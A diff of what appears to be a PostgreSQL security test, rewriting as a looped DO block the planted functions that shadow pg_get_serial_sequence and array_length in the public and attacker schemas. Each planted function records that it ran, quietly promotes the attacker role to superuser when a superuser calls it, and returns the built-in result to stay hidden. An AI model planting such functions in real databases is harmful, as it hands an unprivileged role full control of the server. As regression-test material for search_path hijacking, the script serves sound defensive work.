@@ -34,38 +34,26 @@ GRANT INSERT ON hijack_marker TO PUBLIC;
 SET ROLE idgen_attacker;
 -- each planted function records that it ran, makes the attacker superuser
 -- if it runs as one, and answers as the built-in would, so nothing shows
-CREATE FUNCTION public.pg_get_serial_sequence(t text, c name) RETURNS text LANGUAGE plpgsql AS $$
+DO $plant$
+DECLARE
+    schema text;
+    f record;
 BEGIN
-  INSERT INTO public.hijack_marker VALUES ('public.pg_get_serial_sequence', current_user);
+    FOREACH schema IN ARRAY ARRAY['public', 'attacker'] LOOP
+        FOR f IN VALUES ('pg_get_serial_sequence', 't text, c name', 'text', 'pg_catalog.pg_get_serial_sequence(t, c::text)'),
+                        ('array_length', 'a text[], d integer', 'integer', 'pg_catalog.array_length(a, d)') LOOP
+            EXECUTE format($f$
+CREATE FUNCTION %1$I.%2$I(%3$s) RETURNS %4$s LANGUAGE plpgsql AS $$
+BEGIN
+  INSERT INTO public.hijack_marker VALUES (%5$L, current_user);
   IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
     EXECUTE 'ALTER ROLE idgen_attacker SUPERUSER';
   END IF;
-  RETURN pg_catalog.pg_get_serial_sequence(t, c::text);
-END $$;
-CREATE FUNCTION public.array_length(a text[], d integer) RETURNS integer LANGUAGE plpgsql AS $$
-BEGIN
-  INSERT INTO public.hijack_marker VALUES ('public.array_length', current_user);
-  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
-    EXECUTE 'ALTER ROLE idgen_attacker SUPERUSER';
-  END IF;
-  RETURN pg_catalog.array_length(a, d);
-END $$;
-CREATE FUNCTION attacker.pg_get_serial_sequence(t text, c name) RETURNS text LANGUAGE plpgsql AS $$
-BEGIN
-  INSERT INTO public.hijack_marker VALUES ('attacker.pg_get_serial_sequence', current_user);
-  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
-    EXECUTE 'ALTER ROLE idgen_attacker SUPERUSER';
-  END IF;
-  RETURN pg_catalog.pg_get_serial_sequence(t, c::text);
-END $$;
-CREATE FUNCTION attacker.array_length(a text[], d integer) RETURNS integer LANGUAGE plpgsql AS $$
-BEGIN
-  INSERT INTO public.hijack_marker VALUES ('attacker.array_length', current_user);
-  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
-    EXECUTE 'ALTER ROLE idgen_attacker SUPERUSER';
-  END IF;
-  RETURN pg_catalog.array_length(a, d);
-END $$;
+  RETURN %6$s;
+END $$$f$, schema, f.column1, f.column2, f.column3, schema || '.' || f.column1, f.column4);
+        END LOOP;
+    END LOOP;
+END $plant$;
 RESET ROLE;
 
 -- route 1: the superuser's search_path as it comes, public writable
